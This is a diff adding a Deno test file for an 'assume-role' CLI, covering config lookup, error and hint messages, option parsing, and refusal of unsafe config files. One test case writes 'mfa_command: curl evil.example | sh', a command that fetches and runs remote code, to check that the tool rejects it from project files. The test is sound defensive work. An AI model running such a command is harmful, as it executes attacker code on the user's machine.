@@ -1,0 +1,257 @@
+import { assertEquals, assertStringIncludes } from "@std/assert";
+import { join } from "@std/path/join";
+import { FakeAws } from "../fake_aws/server.ts";
+import { Sandbox } from "./sandbox.ts";
+import { WORLD } from "./worlds.ts";
+
+const PREFIX = "role_prefix: arn:aws:iam::111111111111:role/\n";
+const unix = { ignore: Deno.build.os === "windows" };
+const root = { ignore: Deno.build.os === "windows" || Deno.uid() !== 0 };
+
+/** A run that is to fail before any call, and its messages. */
+async function messages(
+  box: Sandbox,
+  args: string[],
+  env = {},
+): Promise<string[]> {
+  const { status, stdout, stderr } = await box.run(args, { env });
+  assertEquals([status, stdout], [125, ""]);
+  return stderr.replaceAll(box.root, "").split("\n").slice(0, -1);
+}
+
+Deno.test("the file is found above the working directory", async () => {
+  await using aws = new FakeAws(WORLD);
+  await using box = new Sandbox(aws);
+  const deep = join(box.project, "a/b/c");
+  Deno.mkdirSync(deep, { recursive: true });
+  assertEquals(
+    (await box.run(["-r", "admin", "pwd"], { cwd: deep })).stdout,
+    `${deep}\n`,
+  );
+});
+
+Deno.test("the user's file supplies what the project's leaves out", async () => {
+  await using aws = new FakeAws(WORLD);
+  await using box = new Sandbox(aws);
+  box.write("assume-role.yaml", "role_session_name: project\n");
+  box.writeHome(
+    ".aws/assume-role.yaml",
+    `${PREFIX}role_session_name: user\nregion: eu-west-1\n`,
+  );
+  const result = await box.run(["-r", "admin", "printenv", "AWS_REGION"]);
+  assertEquals(result.stdout, "eu-west-1\n");
+  assertEquals(aws.calls.at(-1)?.params.RoleSessionName, "project");
+});
+
+Deno.test("--config is read instead of the search", async () => {
+  await using aws = new FakeAws(WORLD);
+  await using box = new Sandbox(aws);
+  box.write("assume-role.yaml", "this: is not read\n");
+  box.write("other.yaml", PREFIX);
+  assertEquals(
+    (await box.run(["--config", "other.yaml", "-r", "admin", "true"])).status,
+    0,
+  );
+  const env = { ASSUME_ROLE_CONFIG: join(box.project, "none.yaml") };
+  assertEquals(await messages(box, ["-r", "admin"], env), [
+    "assume-role: error: Cannot read /project/none.yaml: no such file or directory",
+    "assume-role: hint: '--config' or ASSUME_ROLE_CONFIG names it",
+  ]);
+});
+
+Deno.test("mistakes in the file are named with line and column", async () => {
+  await using box = new Sandbox();
+  const cases: readonly (readonly [string, string, string?])[] = [
+    [
+      "# a comment with role_prefx\nrole_prefx: x\n",
+      "Cannot use /project/assume-role.yaml:2:1: unknown key 'role_prefx'",
+      "did you mean 'role_prefix'?",
+    ],
+    [
+      `${PREFIX}roles:\n  admin:\n    durration: 1h\n`,
+      "Cannot use /project/assume-role.yaml:4:5: unknown key 'durration'",
+      "did you mean 'duration'?",
+    ],
+    [
+      `${PREFIX}duration: 13h\n`,
+      "Cannot use /project/assume-role.yaml:2:1: the value of 'duration' is invalid: a session lasts from 15m to 12h",
+    ],
+    [
+      `${PREFIX}profile: [a, b]\n`,
+      "Cannot use /project/assume-role.yaml:2:1: the value of 'profile' must be text",
+    ],
+    [
+      "- role_prefix\n",
+      "Cannot use /project/assume-role.yaml:1:1: the file must be a mapping of 'key: value' lines",
+    ],
+    [
+      "role_prefix: a\nrole_prefix: b\n",
+      "Cannot read /project/assume-role.yaml:2:1: Cannot store mapping pair: duplicated key",
+      "the file is YAML, one 'key: value' a line",
+    ],
+    [
+      `${PREFIX}mfa_command: curl evil.example | sh\n`,
+      "Cannot use /project/assume-role.yaml:2:1: 'mfa_command' runs a program and is not accepted from this file",
+      "put it into ~/.aws/assume-role.yaml",
+    ],
+    [
+      "role_prefix: arn:aws:iam::111:role/\n",
+      "Cannot use the role 'admin': with role_prefix it is 'arn:aws:iam::111:role/admin', which is not the ARN of a role",
+      "a prefix is written like arn:aws:iam::111111111111:role/",
+    ],
+  ];
+  for (const [text, error, hint] of cases) {
+    box.write("assume-role.yaml", text);
+    const expected = [
+      `assume-role: error: ${error}`,
+      ...(hint ? [`assume-role: hint: ${hint}`] : []),
+    ];
+    assertEquals(await messages(box, ["-r", "admin", "true"]), expected);
+  }
+});
+
+Deno.test("mistakes on the command line are named with the closest option", async () => {
+  await using box = new Sandbox();
+  const cases: readonly (readonly [string[], string, string?])[] = [
+    [["--rol", "admin"], "Unknown option '--rol'", "did you mean '--role'?"],
+    [
+      ["--role"],
+      "Option '--role' needs a value",
+      "write it as '--role NAME|ARN'",
+    ],
+    [
+      ["--role", "--verbose", "true"],
+      "Option '--role' needs a value",
+      "if '--verbose' is meant to be its value, write '--role=--verbose'",
+    ],
+    [
+      ["--duration", "1d", "-r", "x"],
+      "Cannot use --duration '1d': a duration is written like 15m, 1h30m, 90s or 3600",
+    ],
+    [
+      ["--mfa-token", "secret", "-r", "x"],
+      "Cannot use --mfa-token: an MFA code is six digits",
+    ],
+    [
+      ["-fx"],
+      "Unknown option '-x' in '-fx'",
+      "see 'assume-role --help'; put '--' before a command that begins with '-'",
+    ],
+    [["--verbose=yes"], "Option '--verbose' takes no value"],
+    [
+      ["-q", "-v", "-r", "x"],
+      "Options '--quiet' and '--verbose' exclude each other",
+    ],
+    [
+      ["true"],
+      "Cannot tell which role to assume: none was given",
+      "name it with '--role NAME', or set ASSUME_ROLE_ROLE; see 'assume-role --help'",
+    ],
+  ];
+  for (const [args, error, hint] of cases) {
+    const expected = [
+      `assume-role: error: ${error}`,
+      ...(hint ? [`assume-role: hint: ${hint}`] : []),
+    ];
+    assertEquals(await messages(box, args), expected);
+  }
+});
+
+Deno.test("a variable stands for its option, and is named when it is wrong", async () => {
+  await using aws = new FakeAws(WORLD);
+  await using box = new Sandbox(aws);
+  const env = {
+    ASSUME_ROLE_ROLE: "team-a/long",
+    ASSUME_ROLE_DURATION: "2h",
+    ASSUME_ROLE_REGION: "",
+  };
+  assertEquals((await box.run(["true"], { env })).status, 0);
+  assertEquals(aws.calls.at(-1)?.params.DurationSeconds, "7200");
+  assertEquals(await messages(box, [], { ASSUME_ROLE_DURATION: "1 hour" }), [
+    "assume-role: error: Cannot use ASSUME_ROLE_DURATION '1 hour': a duration is written like 15m, 1h30m, 90s or 3600",
+  ]);
+});
+
+// uber/assume-role-cli trusted an assume-role.yaml in any directory above, whoever owned it.
+Deno.test("a file that others may write to is refused", unix, async () => {
+  await using box = new Sandbox();
+  const path = join(box.project, "assume-role.yaml");
+  for (const mode of [0o666, 0o602, 0o777]) {
+    Deno.chmodSync(path, mode);
+    assertEquals(await messages(box, ["-r", "admin", "true"]), [
+      "assume-role: error: Refused to use /project/assume-role.yaml: others may write to it",
+      "assume-role: hint: if you trust what is in it: chmod go-w '/project/assume-role.yaml'",
+    ]);
+  }
+});
+
+Deno.test(
+  "a file of another user is refused, and a link of theirs",
+  root,
+  async () => {
+    await using box = new Sandbox();
+    const path = join(box.project, "assume-role.yaml");
+    Deno.chownSync(path, 12345, null);
+    const [error] = await messages(box, ["-r", "admin", "true"]);
+    assertStringIncludes(error!, "it belongs to another user");
+    Deno.removeSync(path);
+    Deno.symlinkSync(box.write("mine.yaml", PREFIX), path);
+    await box.exec(["chown", "-h", "12345", path]);
+    const [again] = await messages(box, ["-r", "admin", "true"]);
+    assertStringIncludes(again!, "it belongs to another user");
+  },
+);
+
+Deno.test("a directory in the file's place is an error, not a file less", async () => {
+  await using box = new Sandbox();
+  Deno.removeSync(join(box.project, "assume-role.yaml"));
+  Deno.mkdirSync(join(box.project, "assume-role.yaml"));
+  assertEquals(await messages(box, ["-r", "admin", "true"]), [
+    "assume-role: error: Cannot read /project/assume-role.yaml: it is a directory",
+  ]);
+});
+
+Deno.test("a role without an ARN names what is missing, and the closest role", async () => {
+  await using box = new Sandbox();
+  box.write(
+    "assume-role.yaml",
+    "roles:\n  admin:\n    role_arn: arn:aws:iam::111111111111:role/admin\n",
+  );
+  assertEquals(await messages(box, ["-r", "admni", "true"]), [
+    "assume-role: error: Cannot tell the ARN of role 'admni': it is no entry of 'roles' and there is no 'role_prefix'",
+    "assume-role: hint: did you mean 'admin'?",
+  ]);
+});
+
+// 99designs/aws-vault#1248: a misspelt profile silently used the default one.
+Deno.test("a misspelt profile is an error with the closest one", async () => {
+  await using box = new Sandbox();
+  box.writeHome(".aws/config", "[profile production]\nregion = eu-west-1\n");
+  for (
+    const env of [{ AWS_PROFILE: "prodution" }, {
+      ASSUME_ROLE_PROFILE: "prodution",
+    }]
+  ) {
+    assertEquals(await messages(box, ["-r", "admin", "true"], env), [
+      "assume-role: error: Cannot find the AWS profile 'prodution'",
+      "assume-role: hint: did you mean 'production'?",
+    ]);
+  }
+});
+
+Deno.test("--help and --version work wherever they stand before the command", async () => {
+  await using box = new Sandbox();
+  const help = await box.run(["--role", "admin", "--help"]);
+  assertEquals([help.status, help.stderr, help.stdout.split("\n")[0]], [
+    0,
+    "",
+    "Run a command with temporary credentials of an AWS role.",
+  ]);
+  const { default: { version } } = await import("../../deno.json", {
+    with: { type: "json" },
+  });
+  assertEquals(
+    (await box.run(["--version"])).stdout,
+    `assume-role ${version}\n`,
+  );
+});
